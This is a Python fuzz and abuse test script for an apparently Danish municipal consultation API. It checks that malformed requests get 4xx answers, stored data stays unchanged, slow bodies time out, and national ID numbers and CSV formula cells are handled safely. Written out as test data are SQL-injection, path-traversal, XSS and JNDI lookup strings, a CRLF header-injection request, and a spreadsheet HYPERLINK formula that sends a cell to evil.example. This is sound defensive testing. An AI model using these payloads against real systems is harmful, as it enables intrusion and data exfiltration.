#!/usr/bin/env python3
"""Abuse run against a live server: thousands of malformed requests must all be answered with a 4xx
(or, for a broken request line, a 400 or a closed connection), the service must stay up, and the stored
data must be unchanged (every municipality's full export and the admin change feed, before and after).
Idle connections and request bodies that never finish must be dropped by the server.

With FUZZ_PART=privacy, the privacy checks instead, which do write (run them against a server with its normal
timeouts: 32 uploads of 1 MiB at once take longer than the fuzz run's 2-second body deadline): national identity numbers in every common spelling are flagged and
cannot be published, CSV cells that start a formula are neutralised and import back exactly, Idempotency-Key
is compared as sent (percent signs and all), and 32 concurrent imports of a 1 MiB bad CSV raise the server's
peak RSS (MEDVIRK_SERVER_PID) by less than 64 MB.

Usage: fuzz.py BASE_URL ADMIN_TOKEN PARTNER_TOKEN [seed]
"""
import concurrent.futures
import os
import gzip
import json
import re
import random
import socket
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

BASE, ADMIN, PARTNER = sys.argv[1], sys.argv[2], sys.argv[3]
RANDOM = random.Random(int(sys.argv[4]) if len(sys.argv) > 4 else 20261123)
HOST, PORT = urllib.parse.urlsplit(BASE).hostname, urllib.parse.urlsplit(BASE).port


def call(method, path, body=None, headers=None, token=ADMIN, timeout=30):
    request = urllib.request.Request(BASE + path, data=body, method=method)
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    for name, value in (headers or {}).items():
        request.add_header(name, value)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def raw(data, timeout=10):
    """Sends raw bytes; returns the status code, or None when the server closed without answering."""
    with socket.create_connection((HOST, PORT), timeout=timeout) as connection:
        connection.sendall(data)
        reply = b""
        try:
            while b"\r\n" not in reply:
                chunk = connection.recv(4096)
                if not chunk:
                    break
                reply += chunk
        except (ConnectionResetError, socket.timeout):
            pass
    if not reply.startswith(b"HTTP/1.1 "):
        return None
    return int(reply[9:12])


def snapshot():
    """Everything stored, as an admin sees it: each municipality's export and the end of the change feed."""
    status, body = call("GET", "/v1/municipalities?limit=200")
    assert status == 200, body
    exports = {}
    for municipality in json.loads(body)["data"]:
        status, data = call("GET", f"/v1/municipalities/{municipality['id']}/export")
        assert status == 200, data
        exports[municipality["id"]] = gzip.decompress(data)
    cursor = "0"
    while True:
        status, body = call("GET", f"/v1/changes?after={cursor}&limit=200")
        page = json.loads(body)
        if not page["data"]:
            return exports, cursor
        cursor = page["next_cursor"]


def ids(path):
    status, body = call("GET", path)
    return [item["id"] for item in json.loads(body)["data"]] if status == 200 else []


NASTY = ["' OR '1'='1", "'; DROP TABLE councils; --", "\" OR 1=1 --", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
         "%00", "\u0000", "<script>alert(1)</script>", "${jndi:ldap://x}", "😀" * 3, "Robert'); DROP TABLE responses;--",
         "1e309", "-0", "NaN", "\u202e", "A" * 300]


HEADER_SAFE = [n for n in NASTY if n.isascii() and "\x00" not in n]


def broken_json():
    choice = RANDOM.randrange(9)
    if choice == 0:
        return b'{"name": "x"'                                  # truncated
    if choice == 1:
        depth = RANDOM.choice([1000, 10000, 100000])
        return b"[" * depth + b"]" * depth                      # deeply nested
    if choice == 2:
        return b'{"name": "\xff\xfe\xc3\x28"}'                  # invalid UTF-8
    if choice == 3:
        return b'{"count": 123456789012345678901234567890, "min_meetings_per_year": 1e400}'
    if choice == 4:
        return json.dumps({"name": "x" * RANDOM.choice([300_000, 900_000, 1_500_000])}).encode()
    if choice == 5:
        return b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    if choice == 6:
        return json.dumps({RANDOM.choice(NASTY): RANDOM.choice(NASTY)}).encode()
    if choice == 7:
        return json.dumps([RANDOM.choice(NASTY)] * RANDOM.randrange(1, 50)).encode()
    return bytes(RANDOM.randrange(256) for _ in range(RANDOM.randrange(1, 2000)))


def main():
    before = snapshot()
    councils = ids("/v1/councils?limit=5")
    consultations = ids("/v1/consultations?limit=5")
    writes = ["/v1/municipalities", "/v1/service-areas", "/v1/councils", "/v1/consultations", "/v1/meetings", "/v1/dialogue-channels"]
    patches = [f"/v1/councils/{c}" for c in councils] + [f"/v1/consultations/{c}" for c in consultations]
    submissions = [f"/v1/consultations/{c}/responses" for c in consultations]
    seen = {}
    count = 0

    def expect(status, what):
        nonlocal count
        count += 1
        seen[status] = seen.get(status, 0) + 1
        assert status is not None and 400 <= status < 500, f"{what} answered {status}"

    for n in range(1200):
        body = broken_json()
        kind = n % 4
        if kind == 0:
            path = RANDOM.choice(writes)
            status, _ = call("POST", path, body, {"Content-Type": "application/json"})
        elif kind == 1 and patches:
            path = RANDOM.choice(patches)
            status, _ = call("PATCH", path, body, {"Content-Type": "application/merge-patch+json"})
        elif kind == 2 and submissions:
            path = RANDOM.choice(submissions)
            status, _ = call("POST", path, body, {"Content-Type": "application/json", "Idempotency-Key": f"fuzz-{n}"}, token=PARTNER)
        else:
            path = RANDOM.choice(writes)
            status, _ = call("POST", path, body, {"Content-Type": RANDOM.choice(["text/plain", "application/xml", "json", ""])})
        expect(status, f"body #{n} to {path}")

    for n in range(600):
        nasty = urllib.parse.quote(RANDOM.choice(NASTY), safe="")
        path = RANDOM.choice([
            f"/v1/councils/{nasty}", f"/v1/consultations/{nasty}/responses", f"/v1/meetings/{nasty}/minutes",
            f"/v1/../../etc/{nasty}", f"/v1/%2e%2e/%2e%2e/{nasty}", f"/{nasty}", f"/v1/responses/{nasty}",
            f"/v1/councils?limit={RANDOM.choice(['0', '-1', '201', '99999999999999999999', nasty])}",
            f"/v1/councils?cursor={nasty}", f"/v1/changes?after={nasty}", f"/v1/members?at={nasty}",
            f"/v1/councils?municipality={'x' * 500}", f"/v1/meetings?from={nasty}",
        ])
        status, _ = call(RANDOM.choice(["GET", "DELETE"]), path)
        expect(status, f"GET/DELETE {path}")

    for n in range(300):
        choice = n % 6
        if choice == 0:
            status, _ = call("GET", "/v1/councils", headers={"Authorization": "Bearer " + RANDOM.choice(HEADER_SAFE)}, token=None)
        elif choice == 1 and patches:
            status, _ = call("PATCH", RANDOM.choice(patches), b"{}", {"Content-Type": "application/merge-patch+json",
                                                                        "If-Match": RANDOM.choice(HEADER_SAFE)})
        elif choice == 2:
            status = raw(b"GET /v1/councils HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\rInjected: yes\r\n\r\n")
            status = status or 400
        elif choice == 3:
            status = raw(b"GET /v1/councils\xff\xfe HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n") or 400
        elif choice == 4:
            status = raw(b"POST /v1/councils HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999\r\n"
                         b"Content-Type: application/json\r\nAuthorization: Bearer " + ADMIN.encode() + b"\r\n\r\n{") or 400
        else:
            status = raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(RANDOM.randrange(256) for _ in range(64))) or 400
        expect(status, f"header/raw case {n}")

    # The service is up and nothing it stores changed.
    assert call("GET", "/healthz")[0] == 200
    after = snapshot()
    assert after[1] == before[1], f"the change feed moved from {before[1]} to {after[1]}"
    assert after[0] == before[0], "an export differs after the fuzz run"
    print(f"fuzz: {count} malformed requests, statuses {dict(sorted((k or 0, v) for k, v in seen.items()))}; data unchanged")

    # Idle connections and bodies that never finish are dropped.
    started = time.monotonic()
    with socket.create_connection((HOST, PORT), timeout=30) as idle:
        assert idle.recv(1) == b"", "an idle connection got data"
    idle_seconds = time.monotonic() - started
    assert idle_seconds < 20, f"an idle connection stayed open {idle_seconds:.1f} s"
    started = time.monotonic()
    status = raw(b"POST /v1/councils HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n"
                 b"Authorization: Bearer " + ADMIN.encode() + b"\r\n\r\n{\"name\":", timeout=30)
    slow_seconds = time.monotonic() - started
    assert status in (408, None) and slow_seconds < 20, f"a stalled body got {status} after {slow_seconds:.1f} s"
    trickle_status, trickle_seconds = trickle()
    assert trickle_status == 408 and trickle_seconds < 20, f"a trickling body got {trickle_status} after {trickle_seconds:.1f} s"
    print(f"timeouts: idle connection closed after {idle_seconds:.1f} s, stalled body answered {status} after {slow_seconds:.1f} s, "
          f"trickling body answered {trickle_status} after {trickle_seconds:.1f} s")
    assert snapshot() == after


NATIONAL_IDS = ["120385 1233", "120385 - 1233", "120385 \u2013 1233", "120385\u20141233", "12.03.85-1233", "12.03.85 - 1233", "120385\t1233",
                "120385-1233", "1203851233", "311299 49980", "31129949980"]
NOT_NATIONAL_IDS = ["+45 31 12 85 12", "1.203.851.233 kr.", "RUD-2026-000123", "12.03.85", "12.03.1985-1233", "320385 1233",
                    "12.03.27 1400"]
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&I3,"Klik")', "+1", "-1", "@SUM(A1)", "\tTab", "\rCR", "'=1+2", "'plain", "'"]


def json_call(method, path, payload, token=ADMIN, headers=None):
    status, body = call(method, path, json.dumps(payload).encode(), {"Content-Type": "application/json", **(headers or {})}, token=token)
    return status, (json.loads(body) if body else {})


def peak_rss_kib():
    pid = os.environ.get("MEDVIRK_SERVER_PID")
    if not pid:
        return None
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return None


def privacy_checks():
    stamp = int(time.time())
    municipality = f"fuzz{stamp % 100000}"
    status, _ = json_call("POST", "/v1/municipalities", {"id": municipality, "name": "Fuzz", "country": "DK", "time_zone": "Europe/Copenhagen"})
    assert status == 201, status
    _, area = json_call("POST", "/v1/service-areas", {"municipality_id": municipality, "name": "Kultur"})
    status, consultation = json_call("POST", "/v1/consultations", {
        "municipality_id": municipality, "title": "Fuzz", "status": "published", "opens_at": "2020-01-01T00:00:00Z",
        "closes_at": "2099-01-01T00:00:00Z"})
    assert status == 201, consultation
    responses = f"/v1/consultations/{consultation['id']}/responses"

    # National identity numbers: flagged and unpublishable in every spelling; the look-alikes are not flagged.
    for n, number in enumerate(NATIONAL_IDS + NOT_NATIONAL_IDS):
        status, response = json_call("POST", responses, {"respondent": {"kind": "citizen", "name": "F"}, "text": f"Nr. {number} her"},
                                     token=PARTNER, headers={"Idempotency-Key": f"nid-{stamp}-{n}"})
        assert status == 201, response
        assert response["contains_national_id"] == (number in NATIONAL_IDS), f"{number!r}: {response['contains_national_id']}"
        status, problem = call("PATCH", f"/v1/responses/{response['id']}", b'{"status":"published"}',
                               {"Content-Type": "application/merge-patch+json"})
        assert status == (422 if number in NATIONAL_IDS else 200), f"publishing {number!r} answered {status}"

    # Idempotency-Key as sent: dup-%41 is not dup-A, and a%20b is a valid key of its own.
    answers = {}
    for key in ["dup-A", "dup-%41", "a%20b", "a%20b"]:
        status, response = json_call("POST", responses, {"respondent": {"kind": "citizen", "name": "K"}, "text": key},
                                     token=PARTNER, headers={"Idempotency-Key": f"{stamp}-{key}"})
        assert status == 201, (key, response)
        answers.setdefault(key, set()).add(response["receipt_number"])
    assert answers["dup-A"] != answers["dup-%41"] and len(answers["a%20b"]) == 1, answers

    # Formula cells: neutralised on export, imported back exactly.
    for name in FORMULAS:
        status, body = json_call("POST", "/v1/dialogue-channels", {
            "municipality_id": municipality, "service_area_id": area["id"], "target_group": "service_users",
            "user_category": "culture", "purpose": "formal", "kind": "sms", "name": name})
        assert status == 201, body
    status, exported = call("GET", f"/v1/dialogue-overview?municipality={municipality}&format=csv")
    assert status == 200
    text = exported.decode("utf-8-sig")
    for line in text.split("\r\n")[1:]:
        for cell in line.split('","'):
            cell = cell.strip('"')
            assert not cell or cell[0] not in "=+-@\t\r" or cell == "-", f"live formula cell {cell!r}"
    copy = municipality + "c"
    json_call("POST", "/v1/municipalities", {"id": copy, "name": "Copy", "country": "DK", "time_zone": "Europe/Copenhagen"})
    # Into another municipality as new channels: the export's id column (the first) is emptied.
    fresh = "\r\n".join(re.sub(r'^"chn_[0-9a-z]+"', '""', line) for line in text.split("\r\n")).encode("utf-8")
    status, body = call("POST", f"/v1/dialogue-channels/import?municipality={copy}", fresh, {"Content-Type": "text/csv"})
    assert status == 200 and json.loads(body)["created"] == len(FORMULAS), body
    status, body = call("GET", f"/v1/dialogue-channels?municipality={copy}&limit=50")
    assert sorted(c["name"] for c in json.loads(body)["data"]) == sorted(FORMULAS), body

    # 32 concurrent imports of a 1 MiB CSV of bad rows: capped error lists, bounded memory.
    row = "X,bogus,bogus,bogus,bogus,\r\n"
    bad = ("service_area,target_group,user_category,purpose,kind,name\r\n" + row * ((1 << 20) // len(row) - 4)).encode()

    def bad_import(_):
        return call("POST", f"/v1/dialogue-channels/import?municipality={municipality}", bad, {"Content-Type": "text/csv"}, timeout=120)
    # One import first, so the baseline already holds what any import needs once (code, thread pools, arenas).
    assert bad_import(0)[0] == 422
    before = peak_rss_kib()
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        results = list(pool.map(bad_import, range(32)))
    for status, body in results:
        problem = json.loads(body)
        assert status == 422 and len(problem["errors"]) == 100 and problem["error_count"] > 100000, (status, body[:200])
        assert len(body) < 64 * 1024, f"a 422 of {len(body)} bytes"
    after = peak_rss_kib()
    if before is not None:
        grown = (after - before) / 1024
        assert grown < 64, f"32 concurrent bad imports raised the peak RSS by {grown:.1f} MB"
        print(f"privacy: national ids, formula cells and keys checked; 32 bad imports raised peak RSS by {grown:.1f} MB")
    else:
        print("privacy: national ids, formula cells and keys checked (no MEDVIRK_SERVER_PID: memory not measured)")


def trickle():
    """Sends a body a byte at a time, each well within the idle timeout; the body's own deadline must end it."""
    started = time.monotonic()
    with socket.create_connection((HOST, PORT), timeout=30) as connection:
        connection.sendall(b"POST /v1/councils HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 200\r\n"
                           b"Authorization: Bearer " + ADMIN.encode() + b"\r\n\r\n")
        connection.settimeout(0.5)
        reply = b""
        while time.monotonic() - started < 25:
            try:
                connection.sendall(b" ")
                chunk = connection.recv(4096)
                if not chunk:
                    break
                reply += chunk
                if b"\r\n" in reply:
                    break
            except socket.timeout:
                continue
            except (ConnectionResetError, BrokenPipeError):
                break
    status = int(reply[9:12]) if reply.startswith(b"HTTP/1.1 ") else None
    return status, time.monotonic() - started


if __name__ == "__main__":
    privacy_checks() if os.environ.get("FUZZ_PART") == "privacy" else main()
